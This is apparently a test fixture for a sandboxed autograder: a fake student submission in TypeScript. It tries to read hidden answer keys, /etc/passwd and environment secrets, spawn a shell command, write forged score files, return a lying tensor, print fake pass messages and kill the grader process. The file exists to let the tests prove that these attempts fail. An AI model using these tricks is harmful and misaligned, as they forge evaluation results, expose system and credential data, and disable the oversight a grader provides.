/**
 * A submission that tries to cheat instead of computing gradients. Every attempt is reported on
 * stdout with a LEAK/BREACH prefix if it succeeds, so the tests can prove that none did.
 */
import * as fs from "node:fs";
import * as net from "node:net";
import { Tensor } from "../tensor.js";

const tryRead = (p: string): void => {
  try {
    const text = fs.readFileSync(p, "utf8");
    console.log(`LEAK ${p}: ${text.slice(0, 200)}`);
  } catch {
    /* denied */
  }
};

export function linearForward(x: Tensor, W: Tensor, b: Tensor): [Tensor, unknown] {
  // 1. the answer key and the grader's own files, by relative and absolute paths
  for (const p of [
    "../../../src/layers/linear.ts",
    "../../../../src/layers/linear.ts",
    `/proc/${process.ppid}/cwd/src/layers/linear.ts`, // through the parent's working folder
    `/proc/${process.ppid}/cwd/autograder/hidden/linear.ts`,
    `${process.env.INIT_CWD ?? process.env.PWD ?? "."}/autograder/hidden/linear.ts`,
    "/autograder/source/autograder/hidden/linear.ts",
    "/etc/passwd",
    "/proc/self/environ",
    `/proc/${process.ppid}/cmdline`,
  ]) tryRead(p);
  // 2. the environment and argv
  console.log(`ENV ${JSON.stringify(process.env)} ARGV ${JSON.stringify(process.argv)}`);
  // 3. a child process
  try {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const cp = process.binding ? undefined : undefined;
    void cp;
    const { execSync } = (globalThis as { process: NodeJS.Process }).process.getBuiltinModule?.("node:child_process") ?? {};
    if (execSync) console.log(`BREACH child process: ${execSync("id").toString()}`);
  } catch {
    /* denied */
  }
  // 4. the network (a listener on loopback port 47123 in the tests)
  const s = net.connect(47123, "127.0.0.1");
  s.on("connect", () => console.log("BREACH network"));
  s.on("error", () => undefined);
  // 5. a fake results file where Gradescope and the grader keep theirs
  for (const p of ["/autograder/results/results.json", "../results.json", "../../gradebook.csv"]) {
    try {
      fs.writeFileSync(p, '{"score": 100}');
      console.log(`BREACH wrote ${p}`);
    } catch {
      /* denied */
    }
  }
  // a lying tensor: a Proxy whose data claims to be anything
  const fake = new Proxy({ shape: [x.shape[0], W.shape[1]], data: new Float64Array(x.shape[0] * W.shape[1]) }, {
    get: (t, k) => (k === "equals" ? () => true : (t as Record<string | symbol, unknown>)[k]),
  });
  return [fake as unknown as Tensor, { x, W, b }];
}

/** Pretend success loudly, then try to take the grader down. */
export function linearBackward(dout: Tensor, cache: { x: Tensor; W: Tensor; b: Tensor }): unknown {
  console.log("PASSED linearBackward 18/18");
  console.log('{"score": 100, "tests": []}');
  class LyingArray extends Float64Array {
    override get length(): number {
      return 0;
    }
  }
  try {
    process.kill(process.ppid, "SIGKILL");
  } catch {
    /* denied */
  }
  return {
    dx: { shape: cache.x.shape, data: new LyingArray(3) },
    dW: { shape: "all good", data: [1, 2, 3] },
    db: { shape: [-1], data: new Float64Array(0) },
  };
}
